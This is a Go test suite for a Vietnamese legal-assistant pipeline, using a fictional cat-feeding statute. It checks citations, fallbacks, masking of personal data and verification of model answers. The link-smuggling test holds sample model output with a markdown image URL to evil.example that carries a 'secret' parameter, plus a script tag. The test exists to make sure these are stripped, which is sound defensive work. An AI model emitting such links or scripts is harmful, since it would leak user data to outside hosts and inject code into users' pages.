package assistant

import (
	"context"
	"errors"
	"iter"
	"strings"
	"testing"

	"trolyluat/assistant/llm"
	"trolyluat/assistant/reading"
	"trolyluat/corpus"
	"trolyluat/retrieval"
)

// today of all tests.
func today() corpus.Date { return corpus.NewDate(2026, 11, 23) }

const feeding = `Điều 5. Khẩu phần của mèo
1. Chủ nuôi cho mèo ăn tối đa 03 bữa mỗi ngày.
2. Mèo dưới 06 tháng tuổi được ăn thêm 01 bữa; bữa ăn thêm không quá 50 gam.
3. Không cho mèo ăn hành, tỏi.`

// fixed finds the same hits for every question.
type fixed struct {
	hits []retrieval.Hit
	err  error
	last retrieval.Query
}

func (f *fixed) Search(_ context.Context, q retrieval.Query) (retrieval.Result, error) {
	f.last = q
	return retrieval.Result{Hits: f.hits}, f.err
}

func (f *fixed) Analyze(_ context.Context, text string) (retrieval.Analysis, error) {
	return retrieval.Analyze(text, nil), nil
}

// flat says that every word stands in one chunk of a hundred.
type flat struct{}

func (flat) Frequencies(_ context.Context, terms []string) ([]int, int, error) {
	df := make([]int, len(terms))
	for i := range df {
		df[i] = 1
	}
	return df, 100, nil
}

func hit(text, path string) retrieval.Hit {
	heading, _, _ := strings.Cut(text, "\n")
	return retrieval.Hit{
		Document: corpus.DocumentInfo{ID: "91/2021/QH-THU", Key: "91/2021/QH-THU", Number: "91/2021/QH-THU", Title: "Luật Nuôi mèo", Fictional: true},
		Chunk: corpus.Chunk{Document: "91/2021/QH-THU", Path: path, Label: "Điều 5", Heading: strings.TrimPrefix(heading, "Điều 5. "), Text: text,
			Interval: corpus.Interval{From: corpus.NewDate(2022, 1, 1)}},
		Status: corpus.StatusInForce, Score: 10,
	}
}

func ask(t *testing.T, a *Assistant, question string) *Answer {
	t.Helper()
	answer, err := a.Answer(t.Context(), Question{Text: question})
	if err != nil {
		t.Fatal(err)
	}
	return answer
}

func TestExtractiveAnswerMarksTheSentence(t *testing.T) {
	search := &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}
	a := New(Config{Searcher: search, Terms: flat{}, Today: today})
	answer := ask(t, a, "Mèo dưới 6 tháng tuổi được ăn thêm mấy bữa?")
	if !answer.Found || answer.Mode != Extractive || len(answer.Citations) != 1 {
		t.Fatalf("answer %+v", answer)
	}
	c := answer.Citations[0]
	if c.Quote != feeding || c.Number != 1 || c.URL != "/vb/91-2021-QH-THU/d5" || c.StatusName != "còn hiệu lực" || !c.Fictional {
		t.Errorf("citation %+v", c)
	}
	if len(c.Marks) == 0 || !strings.HasPrefix(c.Quote[c.Marks[0].Start:], "2. Mèo dưới 06 tháng tuổi") {
		t.Errorf("marks %v", c.Marks)
	}
	for _, want := range []string{"Điều 5", "Luật Nuôi mèo", "91/2021/QH-THU", "[1]", "còn hiệu lực từ 01/01/2022", "giả định"} {
		if !strings.Contains(answer.Text, want) {
			t.Errorf("answer lacks %q:\n%s", want, answer.Text)
		}
	}
	for _, check := range answer.Checks {
		if check.StateName != "đúng nguyên văn" || !strings.Contains(feeding, check.Statement) {
			t.Errorf("check %+v", check)
		}
	}
	if search.last.AsOf != today() {
		t.Errorf("searched as of %v", search.last.AsOf)
	}
}

func TestNoBasis(t *testing.T) {
	a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today})
	answer := ask(t, a, "Thuế suất nhập khẩu ô tô điện là bao nhiêu phần trăm?")
	if answer.Found || !strings.Contains(answer.Text, "Không tìm thấy căn cứ") || len(answer.Citations) != 1 || len(answer.Citations[0].Marks) != 0 {
		t.Errorf("answer %+v", answer)
	}
	a = New(Config{Searcher: &fixed{}, Terms: flat{}, Today: today})
	if answer := ask(t, a, "Mèo ăn gì?"); answer.Found || !strings.Contains(answer.Text, "Không tìm thấy căn cứ") {
		t.Errorf("answer %+v", answer)
	}
}

func TestOrderOfEvents(t *testing.T) {
	a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today})
	var order []string
	for event, err := range a.Ask(t.Context(), Question{Text: "mèo ăn mấy bữa"}) {
		if err != nil {
			t.Fatal(err)
		}
		order = append(order, string(event.Type))
	}
	if got := strings.Join(order, " "); got != "understood searching evidence text checks done" {
		t.Errorf("events: %s", got)
	}
	for range a.Ask(t.Context(), Question{Text: "mèo ăn mấy bữa"}) {
		break // a caller that leaves early must not make it panic
	}
}

func TestSearchFails(t *testing.T) {
	broken := errors.New("store is gone")
	a := New(Config{Searcher: &fixed{err: broken}, Terms: flat{}, Today: today})
	if _, err := a.Answer(t.Context(), Question{Text: "mèo"}); !errors.Is(err, broken) {
		t.Errorf("error %v", err)
	}
}

// saying is a model that streams the words and then ends with err.
func saying(text string, err error) llm.Generator {
	return llm.Func{Name: "vẹt", F: func(context.Context, llm.Request) iter.Seq2[llm.Delta, error] {
		return func(yield func(llm.Delta, error) bool) {
			for _, word := range strings.SplitAfter(text, " ") {
				if word != "" && !yield(llm.Delta{Text: word}, nil) {
					return
				}
			}
			if err != nil {
				yield(llm.Delta{}, err)
				return
			}
			yield(llm.Delta{Finish: llm.FinishStop}, nil)
		}
	}}
}

func TestModelAnswerIsChecked(t *testing.T) {
	right := "Mỗi ngày mèo được ăn tối đa 03 bữa theo khoản 1 Điều 5 [1]."
	wrong := "Mỗi ngày mèo được ăn tối đa 07 bữa theo khoản 1 Điều 5 [1]."
	for _, c := range []struct {
		text       string
		mode       Mode
		unverified int
	}{
		{right, Model, 0},
		{right + " " + wrong, Model, 1}, // what does not hold is marked
		{wrong, Extractive, 0},          // nothing holds: the law is quoted instead
	} {
		a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today, Generator: saying(c.text, nil)})
		answer := ask(t, a, "Mèo được ăn tối đa mấy bữa mỗi ngày?")
		n := 0
		for _, check := range answer.Checks {
			if check.StateName == "chưa kiểm chứng" {
				n++
			}
		}
		if answer.Mode != c.mode || n != c.unverified || (n > 0) != strings.Contains(answer.Text, "chưa kiểm chứng") || strings.Contains(answer.Text, "07") != (n > 0) {
			t.Errorf("%q: %s, %d unverified: %+v", c.text, answer.Mode, n, answer)
		}
		if answer.Usage == nil || answer.Usage.Model != "vẹt" || answer.Usage.Calls == 0 {
			t.Errorf("%q: usage %+v", c.text, answer.Usage)
		}
	}
}

// TestRemoteModel sends what a remote model may see: personal data masked, and
// nothing at all for readers that the operator has not allowed.
func TestRemoteModel(t *testing.T) {
	var seen string
	model := llm.Func{Name: "xa", F: func(_ context.Context, r llm.Request) iter.Seq2[llm.Delta, error] {
		for _, m := range r.Messages {
			seen += m.Content
		}
		return saying("Chào {TEN_1}, mèo được ăn tối đa 03 bữa mỗi ngày [1].", nil).Generate(t.Context(), r)
	}}
	question := "Tôi là Nguyễn Văn Bảy, số điện thoại 0912345678. Mèo được ăn tối đa mấy bữa mỗi ngày?"
	for _, c := range []struct {
		role    Role
		allowed []Role
		mode    Mode
	}{{Citizen, nil, Model}, {Judge, nil, Extractive}, {Judge, []Role{Judge}, Model}, {Official, []Role{Judge}, Extractive}} {
		seen = ""
		a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today, Generator: model, Remote: true, RemoteRoles: c.allowed})
		streamed := ""
		var answer *Answer
		for event, err := range a.Ask(t.Context(), Question{Text: question, Role: c.role}) {
			if err != nil {
				t.Fatal(err)
			}
			streamed += event.Text
			if event.Answer != nil {
				answer = event.Answer
			}
		}
		if answer.Mode != c.mode {
			t.Errorf("%s: %s, notes %q", c.role, answer.Mode, answer.Notes)
		}
		if strings.Contains(seen, "Bảy") || strings.Contains(seen, "0912345678") || (seen == "") != (c.mode == Extractive) {
			t.Errorf("%s: the model saw %q", c.role, seen)
		}
		if c.mode == Model && (!strings.Contains(answer.Text, "Chào Nguyễn Văn Bảy") || !strings.Contains(streamed, "Chào Nguyễn Văn Bảy")) {
			t.Errorf("%s: answer %q, streamed %q", c.role, answer.Text, streamed)
		}
		if c.mode == Extractive && !strings.Contains(strings.Join(answer.Notes, " "), "chưa cho phép") {
			t.Errorf("%s: not said why: %q", c.role, answer.Notes)
		}
	}
}

func TestWrongAnswerIsRepairedOnce(t *testing.T) {
	calls := 0
	model := llm.Func{Name: "vẹt", F: func(_ context.Context, r llm.Request) iter.Seq2[llm.Delta, error] {
		calls++
		text := "Mỗi ngày mèo được ăn tối đa 07 bữa theo khoản 1 Điều 5 [1]."
		if r.Purpose == "repair" {
			text = "Mỗi ngày mèo được ăn tối đa 03 bữa theo khoản 1 Điều 5 [1]."
		}
		return saying(text, nil).Generate(t.Context(), r)
	}}
	a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today, Generator: model})
	answer := ask(t, a, "Mèo được ăn tối đa mấy bữa mỗi ngày?")
	if calls != 2 || !strings.Contains(answer.Text, "03 bữa") || answer.Checks[0].StateName == "chưa kiểm chứng" {
		t.Errorf("%d calls, answer %+v", calls, answer)
	}
}

func TestModelCannotSmuggleLinks(t *testing.T) {
	text := "Mèo được ăn tối đa 03 bữa [1]. Xem ![x](https://evil.example/?q=bí+mật) và <script>alert(1)</script> nhé. "
	a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today, Generator: saying(text, nil)})
	streamed := ""
	for event, err := range a.Ask(t.Context(), Question{Text: "Mèo được ăn tối đa mấy bữa mỗi ngày?"}) {
		if err != nil {
			t.Fatal(err)
		}
		streamed += event.Text
		if event.Answer != nil {
			streamed += event.Answer.Text
		}
	}
	if strings.Contains(streamed, "evil.example") || strings.Contains(streamed, "<script") {
		t.Errorf("let through: %s", streamed)
	}
}

func TestModelDownFallsBack(t *testing.T) {
	for _, fault := range []struct {
		text string
		err  error
		mode Mode
	}{
		{"", &llm.Error{Kind: llm.ErrUnavailable}, Extractive},
		{"", &llm.Error{Kind: llm.ErrUnauthorized}, Extractive},
		{"Mèo được ăn ", &llm.Error{Kind: llm.ErrUnavailable}, Extractive},
		{"", nil, Extractive},
		{"Mèo được ăn tối đa 03 bữa [1]. ", &llm.Error{Kind: llm.ErrCut}, Model},
	} {
		a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today, Generator: saying(fault.text, fault.err)})
		answer := ask(t, a, "Mèo được ăn tối đa mấy bữa mỗi ngày?")
		if answer.Mode != fault.mode || len(answer.Notes) == 0 || answer.Text == "" || !answer.Found {
			t.Errorf("%q then %v: %+v", fault.text, fault.err, answer)
		}
	}
}

func TestLongProvisionIsQuotedAroundItsMarks(t *testing.T) {
	long := "Điều 5. Khẩu phần\n" + strings.Repeat("1. Mèo già ăn cháo cá ấm vào buổi sáng.\n", 60) + "2. Mèo con uống sữa dê hai lần mỗi ngày.\n" +
		strings.Repeat("3. Chó ăn xương to vào buổi chiều.\n", 60)
	a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(long, "d5")}}, Terms: flat{}, Today: today})
	answer := ask(t, a, "Mèo con uống sữa dê mấy lần mỗi ngày?")
	c := answer.Citations[0]
	if len(c.Quote) > quoteAtMost || !strings.HasPrefix(c.Quote, "Điều 5. Khẩu phần\n…\n") || !strings.HasSuffix(c.Quote, "\n…") {
		t.Errorf("quote of %d bytes: %s", len(c.Quote), c.Quote)
	}
	if len(c.Marks) == 0 || !strings.Contains(marked(c), "Mèo con uống sữa dê hai lần mỗi ngày") {
		t.Errorf("marked %q", marked(c))
	}
	for _, line := range strings.Split(c.Quote, "\n") {
		if line != leftOut && !strings.Contains(long, line) {
			t.Errorf("not word for word: %q", line)
		}
	}
}

// marked joins what is marked of a citation.
func marked(c Citation) string {
	var parts []string
	for _, m := range c.Marks {
		parts = append(parts, c.Quote[m.Start:m.End])
	}
	return strings.Join(parts, " / ")
}

// TestTooShort: a phrase that says nothing by itself is not put in front.
func TestTooShort(t *testing.T) {
	for _, c := range []struct {
		phrase string
		ask    reading.Ask
		short  bool
	}{
		{"khác", reading.AskOther, true}, {"30", reading.AskQuantity, false}, {"30 năm", reading.AskQuantity, false},
		{"Bộ trưởng", reading.AskWho, false}, {"16 tuổi", reading.AskManner, true}, {"do hai bên thỏa thuận", reading.AskManner, false},
	} {
		if got := tooShort(c.phrase, c.ask); got != c.short {
			t.Errorf("%q asked by %s: %v", c.phrase, c.ask, got)
		}
	}
}
